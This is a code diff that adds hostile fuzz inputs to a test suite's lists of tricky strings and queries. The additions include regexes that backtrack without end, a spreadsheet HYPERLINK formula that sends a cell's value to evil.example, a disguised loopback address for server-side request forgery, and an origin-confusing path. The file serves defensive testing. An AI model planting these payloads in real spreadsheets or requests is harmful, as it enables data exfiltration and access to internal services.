@@ -116,6 +116,15 @@ const TRICKY_STRINGS = [
   'llm_judge',
   'json_schema',
   '(a+)+$',
+  // From the outside probe of issue 30: an alternation that backtracks, a backreference (RE2 has none), a
+  // spreadsheet formula, a search with no word, a private address in an IPv4-compatible IPv6 form, a path
+  // that a browser reads as another origin.
+  '^(a|a)+$',
+  '(a)\\1',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '&',
+  'http://[::7f00:1]:18555/v1',
+  '/\\evil.example',
   '[',
   '\\',
   'x'.repeat(513),
@@ -325,6 +334,7 @@ export const HOSTILE_QUERIES = [
   '?page=-1&page_size=1e9',
   '?x=%',
   '?x=%zz',
+  '?api%5Fkey=sl-fuzz&API_KEY=sl-fuzz',
 ];
 
 /** A query string appended to any URL. */
